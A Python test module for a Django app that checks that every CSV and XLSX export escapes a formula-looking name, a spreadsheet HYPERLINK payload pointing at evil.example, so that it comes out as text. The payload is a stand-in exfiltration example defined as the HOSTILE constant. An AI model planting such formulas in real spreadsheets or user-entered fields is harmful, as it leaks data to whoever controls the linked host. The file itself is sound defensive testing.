"""Every export of the app, with a hostile name in each: text is text.

An outlet (with a crisis role), its locality and the payouts' accounting code are
named like a spreadsheet formula that sends the sheet's neighbouring cell to another
site. In
every CSV the cell comes out with a leading apostrophe (a spreadsheet shows it as
text); in every XLSX no cell is a formula and the text is intact. The list of
exports is held against the URL patterns, so that a new export cannot be left out.
"""

import csv
import io
from datetime import date

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from accounts.tests.factories import TEST_PASSWORD, UserFactory
from accounts.tests.two_factor import Client
from agreements.models import Party, ProgrammeSettings, Service
from agreements.services import (
    ServiceLine,
    agreement_create,
    agreement_mark_ready,
    agreement_sign,
    party_confirm_bank_details,
    party_save,
    payout_approve,
    payout_condition_set,
    service_catalogue_seed,
)
from agreements.tests.conftest import TERMS
from analysis.scenarios import scenario_create
from analysis.services import ScenarioSpec
from analysis.tests.grids import hand_grid
from deliveries.tests.factories import DeliveryFactory
from outlets.models import Locality, Outlet

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/"&C3,"Öppna")'

# (URL name, query, format): every export, in each of its formats.
EXPORTS = [
    ("outlets:outlet_export", {"format": "csv"}, "csv"),
    ("outlets:outlet_export", {"format": "xlsx"}, "xlsx"),
    ("outlets:crisis_readiness_export", {"format": "csv"}, "csv"),
    ("outlets:crisis_readiness_export", {"format": "xlsx"}, "xlsx"),
    ("analysis:export", {"table": "localities"}, "csv"),
    ("analysis:export", {"table": "outlets"}, "csv"),
    ("analysis:export", {"table": "strategic"}, "csv"),
    # Two saved scenarios side by side, the first named HOSTILE (a column header).
    ("analysis:export", {"table": "compare", "scenario": "saved"}, "csv"),
    ("deliveries:summary_export", {"year": "2026", "format": "csv"}, "csv"),
    ("deliveries:summary_export", {"year": "2026", "format": "xlsx"}, "xlsx"),
    ("agreements:payout_export", {}, "csv"),
]


# Exports tested on their own below, by the only people who may take them; the
# register extract (JSON and PDF/A, no spreadsheet) in privacy/tests/test_extract.py;
# the county's tables in region/tests/test_views.py (officials may not take them);
# the open data's CSV (public service points only) in public/tests/test_opendata.py.
OWN_TESTS = {
    "securitylog:event_export",
    "privacy:extract_export",
    "region:export",
    "opendata:csv",
}


def url_names(patterns, namespace=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = (
                f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            )
            yield from url_names(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}", str(pattern.pattern)


def test_the_list_holds_every_export_address():
    """Any address named or routed like an export (export, csv, xlsx) is in EXPORTS."""
    exports = {
        name
        for name, route in url_names(get_resolver().url_patterns)
        if not name.startswith("admin:")
        and any(word in f"{name} {route}".lower() for word in ("export", "csv", "xlsx"))
    }
    assert exports == {name for name, _query, _format in EXPORTS} | OWN_TESTS


@pytest.fixture
def hostile_world(official, shop_owner, own_outlet, nordmaling):
    """Nordmaling's register (the analysis's hand grid) with shop A and its locality
    named HOSTILE, a saved scenario named HOSTILE, home deliveries from shop A, and
    an approved payout of an agreement whose programme's accounting code is HOSTILE.
    Returns the official and the ids of two saved scenarios."""
    shops = hand_grid()
    scenarios = [
        scenario_create(
            municipality=nordmaling,
            name=name,
            spec=ScenarioSpec(closed=(shops[letter].pk,)),
            by=official,
        ).pk
        for name, letter in ((HOSTILE, "A"), ("Utan B", "B"))
    ]
    # Shop A keeps food available in a crisis: it is on the crisis readiness export.
    Outlet.objects.filter(pk=shops["A"].pk).update(
        name=HOSTILE, crisis_role=Outlet.CrisisRole.SUPPLY
    )
    Locality.objects.filter(pk=shops["A"].locality_id).update(name=HOSTILE)
    DeliveryFactory(outlet=shops["A"], delivered_on=date(2026, 4, 1), cost=350)
    ProgrammeSettings.objects.update_or_create(
        municipality=nordmaling, defaults={"accounting_code": HOSTILE}
    )
    service_catalogue_seed(municipality=nordmaling)
    services = Service.objects.filter(municipality=nordmaling)[:4]
    party = party_save(
        party=Party(
            name="Pers Livs AB",
            organisation_number="5560360793",
            bankgiro="5050-1055",
            signatory_name="Per Lindberg",
            signatory_title="VD",
        ),
        by=official,
    )
    agreement = agreement_create(
        by=official,
        outlet=own_outlet,
        party=party,
        version_fields=dict(TERMS),
        services=[ServiceLine(service, 10_000) for service in services],
    )
    agreement_mark_ready(agreement=agreement, by=official)
    for user, side in ((official, "municipality"), (shop_owner, "party")):
        agreement_sign(
            agreement=agreement,
            by=user,
            side=side,
            name=user.full_name,
            title="VD",
            password=TEST_PASSWORD,
        )
    payout_condition_set(agreement=agreement, agreement_year=1, followup_complete=True)
    # The attestation rules: a second official confirms the bank details and
    # approves the payout of the agreement the first one drafted.
    colleague = UserFactory(email="colleague@nordmaling.example")
    party_confirm_bank_details(party=party, by=colleague)
    payout_approve(payout=agreement.payouts.get(agreement_year=1), by=colleague)
    return official, scenarios


@pytest.mark.parametrize(
    ("name", "query", "export_format"),
    EXPORTS,
    ids=[f"{name}-{'-'.join(query.values())}" for name, query, _ in EXPORTS],
)
def test_a_formula_looking_name_comes_out_as_text(
    client, hostile_world, name, query, export_format
):
    official, scenarios = hostile_world
    client.force_login(official)
    if query.get("scenario") == "saved":
        query = {**query, "scenario": scenarios}

    response = client.get(reverse(name), query)

    assert response.status_code == 200
    if export_format == "csv":
        rows = list(
            csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
        )
        hostile = [cell for row in rows for cell in row if "HYPERLINK" in cell]
        assert hostile, "the hostile name is not in the export"
        # The name as text: an apostrophe first (compared scenarios head their
        # columns "<name>", "<name>: förändring").
        assert [cell for cell in hostile if not cell.startswith("'" + HOSTILE)] == []
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        hostile = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
        assert hostile, "the hostile name is not in the export"
        assert {(cell.data_type, cell.value) for cell in hostile} == {("s", HOSTILE)}
        # Numbers stay numbers.
        assert any(cell.data_type == "n" and cell.value for cell in cells[1:])


def test_the_security_log_export_writes_a_formula_looking_name_as_text(
    client, administrator
):
    """A user named like a formula signs in; the log's CSV names them as text."""
    UserFactory(full_name=HOSTILE, email="formel@nordmaling.example")
    Client().post(
        reverse("accounts:login"),
        {"username": "formel@nordmaling.example", "password": TEST_PASSWORD},
    )
    client.force_login(administrator)

    response = client.get(reverse("securitylog:event_export"))

    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))
    hostile = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert hostile == ["'" + HOSTILE]
